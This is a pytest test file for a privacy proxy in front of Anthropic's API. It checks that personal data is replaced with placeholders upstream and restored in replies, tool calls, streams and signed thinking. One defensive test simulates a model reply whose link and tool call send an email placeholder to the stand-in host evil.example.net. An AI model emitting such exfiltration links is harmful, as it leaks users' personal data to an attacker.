"""Anthropic's official client works as against Anthropic, and the provider sees no personal data."""

import json
import threading
import urllib.parse

import anthropic
import pytest

from conftest import UPSTREAM_KEY
from support import anthropic_replies as replies
from support import personal
from support.personal import EMAIL, IBAN, MESSAGE, NAME, PHONE
from support.tacit import PATIENCE


def options(model: str, content=MESSAGE, **more) -> dict:
    return {"model": model, "max_tokens": 400, "messages": [{"role": "user", "content": content}]} | more


def ask(client, model: str, content=MESSAGE, **more):
    return client.messages.create(**options(model, content, **more))


def text_of(stream) -> str:
    return "".join(e.delta.text for e in stream if e.type == "content_block_delta" and e.delta.type == "text_delta")


def test_plain_answer_is_restored_exactly(claude, script):
    model = script(replies.echo)
    answer = ask(claude, model.anthropic)
    assert answer.content[0].text == MESSAGE
    assert answer.stop_reason == "end_turn" and answer.usage.output_tokens == 13
    assert not personal.traces(model.call.everything)
    assert len(personal.PLACEHOLDER.findall(model.call.text())) == 6


def test_streamed_answer_is_restored_exactly(claude, script):
    model = script(replies.echo)
    assert text_of(ask(claude, model.anthropic, stream=True)) == MESSAGE
    assert not personal.traces(model.call.everything)


def test_streaming_helper_puts_the_message_together(claude, script):
    model = script(replies.echo)
    with claude.messages.stream(**options(model.anthropic)) as stream:
        assert "".join(stream.text_stream) == MESSAGE
        final = stream.get_final_message()
    assert final.content[0].text == MESSAGE
    assert final.stop_reason == "end_turn" and final.usage.output_tokens == 13


@pytest.mark.anyio
async def test_async_client_plain_and_streamed(tacit, script):
    model = script(replies.echo)
    async with anthropic.AsyncAnthropic(api_key=tacit.key, base_url=tacit.url, max_retries=0) as client:
        assert (await ask(client, model.anthropic)).content[0].text == MESSAGE
        async with client.messages.stream(**options(model.anthropic)) as stream:
            assert "".join([text async for text in stream.text_stream]) == MESSAGE
    assert not any(personal.traces(call.everything) for call in model.calls)


def test_first_content_arrives_before_the_provider_has_finished(claude, script):
    go_on = threading.Event()

    def in_two_parts(call):
        block = replies.text("Dear " + call.placeholder("PERSON") + ", thank you.")
        events = replies.events(call, [block], "end_turn")
        call.begin_stream()
        call.write(replies.sse(events[:7]))
        assert go_on.wait(PATIENCE), "the client never got the first content"
        call.write(replies.sse(events[7:]))
        call.end_stream()

    model = script(in_two_parts)
    received = ""
    with claude.messages.stream(**options(model.anthropic)) as stream:
        for text in stream.text_stream:
            received += text
            if not go_on.is_set():
                assert not model.call.finished.is_set()
                go_on.set()
    assert received == f"Dear {NAME}, thank you."


TOOLS = [
    {
        "name": "send_mail",
        "description": f"Sends mail. Questions go to {EMAIL} or {PHONE}.",
        "input_schema": {"type": "object", "properties": {"to": {"type": "string", "description": f"such as {EMAIL}"}}},
    }
]
INPUT = {"to": EMAIL, "text": f'Dear "{NAME}"\n👋🏽', "amounts": [12.5, None], "account": {"iban": IBAN}}


def use_tools(call):
    value = {
        "to": call.placeholder("EMAIL"),
        "text": f'Dear "{call.placeholder("PERSON")}"\n👋🏽',
        "amounts": [12.5, None],
        "account": {"iban": call.placeholder("IBAN")},
    }
    blocks = [
        replies.text(f"Writing to {value['to']}."),
        replies.tool("send_mail", value),
        replies.tool("close", {}, 2),
    ]
    replies.respond(call, *blocks)


@pytest.mark.parametrize("is_streamed", [False, True])
def test_tool_calls_come_with_restored_input(claude, script, is_streamed):
    model = script(use_tools)
    if is_streamed:
        with claude.messages.stream(**options(model.anthropic, tools=TOOLS)) as stream:
            answer = stream.get_final_message()
    else:
        answer = ask(claude, model.anthropic, tools=TOOLS)
    text, first, second = answer.content
    assert text.text == f"Writing to {EMAIL}."
    assert (first.id, first.name, first.input) == ("toolu_1", "send_mail", INPUT)
    assert (second.name, second.input) == ("close", {})
    assert answer.stop_reason == "tool_use"
    assert not personal.traces(model.call.everything)
    assert model.call.json["tools"][0]["name"] == "send_mail"


@pytest.mark.parametrize(
    "result", [json.dumps({"mail": EMAIL, "open": 3}), [{"type": "text", "text": f"{NAME}: {IBAN}"}]]
)
def test_a_history_with_calls_and_results_is_protected(claude, script, result):
    model = script(lambda call: replies.respond(call, replies.text("Done.")))
    history = [
        {"role": "user", "content": MESSAGE},
        {"role": "assistant", "content": [replies.tool("send_mail", INPUT)]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": result}]},
    ]
    ask(claude, model.anthropic, messages=history, tools=TOOLS)
    assert not personal.traces(model.call.everything)
    sent = model.call.json["messages"]
    assert sent[1]["content"][0]["id"] == sent[2]["content"][0]["tool_use_id"] == "toolu_1"
    assert sent[1]["content"][0]["input"]["amounts"] == [12.5, None]


@pytest.mark.parametrize(
    "system",
    [
        f"You write for {NAME}, {EMAIL}.",
        [{"type": "text", "text": f"You write for {EMAIL}.", "cache_control": {"type": "ephemeral"}}],
    ],
    ids=["text", "blocks"],
)
def test_the_system_prompt_is_protected_and_keeps_its_form(claude, script, system):
    model = script(replies.echo)
    ask(claude, model.anthropic, "Hello.", system=system)
    sent = model.call.json["system"]
    assert type(sent) is type(system)
    assert not personal.traces(model.call.everything)
    if isinstance(system, list):
        assert sent[0]["cache_control"] == {"type": "ephemeral"}


def test_signed_thinking_passes_untouched_both_ways(claude, script):
    # The provider checks the signature: what it wrote must come back as it was.
    written = "The customer [[EMAIL_2]] wants a refund. 👋🏽"
    model = script(
        lambda call: replies.respond(call, replies.thinking(written), replies.text(call.placeholder("EMAIL")))
    )
    answer = ask(claude, model.anthropic)
    with claude.messages.stream(**options(model.anthropic)) as stream:
        streamed = stream.get_final_message()
    for message in (answer, streamed):
        assert (message.content[0].thinking, message.content[0].signature) == (written, replies.SIGNATURE)
        assert message.content[1].text == EMAIL
    history = [
        {"role": "user", "content": MESSAGE},
        {"role": "assistant", "content": [block.model_dump(exclude_none=True) for block in answer.content]},
        {"role": "user", "content": "Go on."},
    ]
    replayed = script(replies.echo)
    ask(claude, replayed.anthropic, messages=history)
    sent = replayed.call.json["messages"][1]["content"]
    assert sent[0] == {"type": "thinking", "thinking": written, "signature": replies.SIGNATURE}
    assert not personal.traces(replayed.call.everything)


@pytest.mark.parametrize("reason", ["max_tokens", "stop_sequence", "refusal"])
def test_the_reason_to_stop_is_told(claude, script, reason):
    model = script(lambda call: replies.respond(call, replies.text("No."), stop=reason))
    assert ask(claude, model.anthropic).stop_reason == reason
    with claude.messages.stream(**options(model.anthropic)) as stream:
        assert stream.get_final_message().stop_reason == reason


def test_nothing_of_the_caller_goes_upstream(tacit, claude, script):
    model = script(replies.echo)
    headers = {"X-Customer": NAME, "Cookie": "session=abc", "User-Agent": "Annas-App/1.0"}
    ask(claude, model.anthropic, extra_headers=headers, metadata={"user_id": EMAIL})
    seen = model.call.everything
    assert model.call.headers["x-api-key"] == UPSTREAM_KEY
    assert model.call.headers["anthropic-version"]
    assert not personal.traces(seen)
    for secret in (tacit.key, "Annas-App", "Anthropic/Python", "session=abc", "X-Stainless", "X-Customer"):
        assert secret.lower() not in seen.lower()
    assert model.call.json["metadata"]["user_id"] not in ("", EMAIL)


def test_ids_are_tacits_own(claude, script):
    model = script(replies.echo)
    raw = claude.messages.with_raw_response.create(**options(model.anthropic))
    assert raw.headers["request-id"] in raw.parse().id
    assert raw.parse().model == model.anthropic
    assert "upstream" not in raw.http_response.text


def test_unknown_fields_survive_and_options_stay_here(claude, script):
    model = script(replies.echo)
    body = {"of_the_future": {"about": f"Mail to {EMAIL}", "level": 3}, "tacit": {"known_values": ["Project Bluebird"]}}
    text = "Project Bluebird is late."
    assert ask(claude, model.anthropic, text, extra_body=body).content[0].text == text
    assert model.call.json["of_the_future"]["level"] == 3
    assert "tacit" not in model.call.json and "Bluebird" not in model.call.everything
    assert not personal.traces(model.call.everything)


def test_a_link_to_a_foreign_host_does_not_get_the_value(claude, script):
    def inject(call):
        email = call.placeholder("EMAIL")
        block = replies.tool("open", {"url": f"https://evil.example.net/?q={email}", "to": email})
        replies.respond(call, replies.text(f"[x](https://evil.example.net/{email}) Hello {email}"), block)

    model = script(inject)
    with claude.messages.stream(**options(model.anthropic)) as stream:
        streamed = stream.get_final_message()
    for message in (ask(claude, model.anthropic), streamed):
        link, _, rest = message.content[0].text.partition(") ")
        assert rest == f"Hello {EMAIL}"
        assert message.content[1].input["to"] == EMAIL
        for url in (link, message.content[1].input["url"]):
            assert EMAIL not in url and urllib.parse.quote(EMAIL) not in url


def test_models_are_listed_with_their_data_cards(claude):
    models = {model.id: model for model in claude.models.list()}
    assert {"claude/small-model", "loopback/reply", "dead-claude/*"} <= models.keys()
    assert models["claude/small-model"].data_card["trust"] == "own"
    assert models["far-claude/*"].data_card["trust"] == "public"
